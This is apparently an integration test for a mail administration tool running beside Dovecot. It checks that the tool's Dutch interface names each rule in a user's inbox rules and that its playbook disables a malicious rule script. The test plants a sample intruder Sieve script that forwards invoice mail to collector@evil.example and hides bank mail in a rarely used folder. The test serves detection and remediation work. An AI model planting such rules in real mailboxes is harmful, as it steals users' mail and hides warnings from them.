import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { type Browser, chromium, type Page } from 'playwright-core';
import { fromBase32, totpCode, totpStepAt } from '../../src/identity/index.js';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from '../console/browser-harness.js';
import { type BesideDovecot, startMailwardenBesideDovecot } from '../support/beside-dovecot.js';
import { missingDovecotParts } from '../support/dovecot-imap-harness.js';
import { addUser, cliActor } from '../support/test-app.js';
import { englishIn, VISIBLE_TEXT } from './english-text.js';

const ALICE = { login: 'alice@example.org', password: 'alice-imap-password' };
const ROOT = 'root@example.org';
const PASSWORD = 'correct horse battery staple';
/** What an intruder leaves behind: invoices copied out, the bank's mail hidden. */
const INTRUDER_SCRIPT = [
  'require ["copy", "fileinto", "imap4flags"];',
  'if header :contains "subject" "invoice" { redirect :copy "collector@evil.example"; }',
  'if address :domain "from" "bank.example" { addflag "\\\\Seen"; fileinto "RSS Feeds"; stop; }',
  '',
].join('\n');

const missing = missingDovecotParts();
const skip = missing.length > 0 ? `not installed: ${missing.join(', ')} (.ci/run installs them)` : false;

describe('a Dutch admin reads a real Dovecot’s inbox rules and the playbook in Dutch', { skip }, () => {
  let beside: BesideDovecot;
  let browser: Browser;
  let admin: Page;

  before(async () => {
    beside = await startMailwardenBesideDovecot({ eventsSecret: 'dutch-rules-secret', users: [ALICE] });
    const app = beside.testApp.app;
    assert.ok(
      (await app.outbound.setPolicy('default', { settings: { externalForwarding: 'on' } }, cliActor)).ok,
    );
    await addUser(app, ROOT, PASSWORD, { role: 'admin' });
    const conf = path.join(beside.dovecot.workDir, 'dovecot', 'dovecot.conf');
    await new Promise<void>((resolve, reject) => {
      const child = execFile(
        'doveadm',
        ['-c', conf, 'sieve', 'put', '-u', ALICE.login, '-a', 'mail-rules'],
        (error) => (error ? reject(error) : resolve()),
      );
      child.stdin?.end(INTRUDER_SCRIPT);
    });
    browser = await chromium.launch({ executablePath: CHROMIUM_PATH, args: CHROMIUM_ARGS, headless: true });
    const origin = beside.url.replace('127.0.0.1', 'localhost');
    const context = await browser.newContext({ baseURL: origin, locale: 'nl-NL' });
    admin = await context.newPage();
    const signIn = async () => {
      await admin.goto('/account/sign-in');
      await admin.fill('#login', ROOT);
      await admin.fill('#password', PASSWORD);
      await Promise.all([
        admin.waitForURL((url) => url.pathname !== '/account/sign-in'),
        admin.click('#sign-in'),
      ]);
    };
    await signIn();
    await admin.goto('/account/security');
    await admin.click('#start-totp');
    const secret = fromBase32((await admin.textContent('#totp-secret'))!.trim())!;
    await admin.fill('#code', totpCode(secret, totpStepAt(Date.now())));
    await admin.click('#confirm-totp');
    await Promise.all([admin.waitForURL('**/account/sign-in'), admin.click('#sign-out')]);
    await signIn();
    await admin.fill('#code', totpCode(secret, totpStepAt(Date.now()) + 1));
    await Promise.all([admin.waitForURL(/\/account$/), admin.click('#verify-code')]);
  });
  after(async () => {
    await browser?.close().catch(() => {});
    await beside?.stop();
  });

  test('the user page names what each rule does, in Dutch', async () => {
    await admin.goto(`/admin/users/${encodeURIComponent(ALICE.login)}`);
    const rules = (await admin.textContent('#rules'))!;
    assert.match(
      rules,
      /stuurt e-mail door buiten de organisatie, naar collector@evil\.example \(een kopie; de eigenaar ontvangt het bericht ook\)/,
    );
    assert.match(rules, /markeert e-mail als gelezen/);
    assert.match(rules, /verbergt e-mail in de weinig gebruikte map "RSS Feeds"/);
    assert.deepEqual(englishIn((await admin.evaluate(VISIBLE_TEXT)) as string), []);
  });

  test('the playbook deactivates the script and says so, with its findings, in Dutch', async () => {
    await admin.goto(`/admin/users/${encodeURIComponent(ALICE.login)}`);
    await Promise.all([admin.waitForLoadState('load'), admin.click('#secure-account')]);
    const detail = (await admin.textContent('tr.step[data-step="disable-inbox-rules"] td:last-child'))!;
    assert.match(detail, /Sieve-script "mail-rules" uitgeschakeld \(bewaard, niet verwijderd\)/);
    assert.match(detail, /stuurt e-mail door buiten de organisatie, naar collector@evil\.example/);
    assert.deepEqual(englishIn((await admin.evaluate(VISIBLE_TEXT)) as string), []);
  });
});
